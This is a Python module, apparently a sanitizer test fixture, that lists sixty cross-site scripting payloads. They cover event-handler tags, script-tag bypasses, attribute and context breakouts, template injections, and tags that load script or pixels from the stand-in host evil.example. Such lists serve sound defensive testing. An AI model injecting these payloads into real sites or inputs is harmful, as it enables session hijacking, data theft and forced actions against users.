"""Sixty ways to make a page run something, which callers may say or be named. What runs sets `window.hit`."""

from __future__ import annotations

RUN = "window.hit=1"
TAGS = [f"<{tag} on{event}={RUN}>" for tag, event in (
    ("img src=x", "error"), ("svg", "load"), ("body", "load"), ("video src=x", "error"), ("audio src=x", "error"),
    ("input autofocus", "focus"), ("select autofocus", "focus"), ("textarea autofocus", "focus"),
    ("details open", "toggle"), ("marquee", "start"), ("iframe", "load"), ("object data=x", "error"),
    ("embed src=x", "error"), ("link rel=stylesheet href=x", "error"), ("style", "load"), ("form", "submit"),
    ("button autofocus", "focus"), ("a autofocus href=#", "focus"), ("dialog open", "focusin"), ("progress", "click"),
)]  # fmt: skip
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<script>{RUN}//",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>",
    f"<title></title><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
]
BREAKS = [
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"</td></tr></table><img src=x onerror={RUN}>",
    f"</code></pre><svg onload={RUN}>",
    f"-->]]></style></textarea></title><img src=x onerror={RUN}>",
    f"{{{{ {RUN} }}}}",
    f"${{{RUN}}}",
    f"{{% raw %}}<script>{RUN}</script>{{% endraw %}}",
    f"`-({RUN})-`",
]
FETCHES = [
    "<img src=https://evil.example/pixel>",
    "<img src=x srcset=https://evil.example/pixel>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button autofocus>",
    "<hx-partial hx-target='#main'><b>taken</b></hx-partial>",
    "<div hx-get=/logout hx-trigger=load></div>",
]
PAYLOADS = [*TAGS, *SCRIPTS, *BREAKS, *FETCHES]
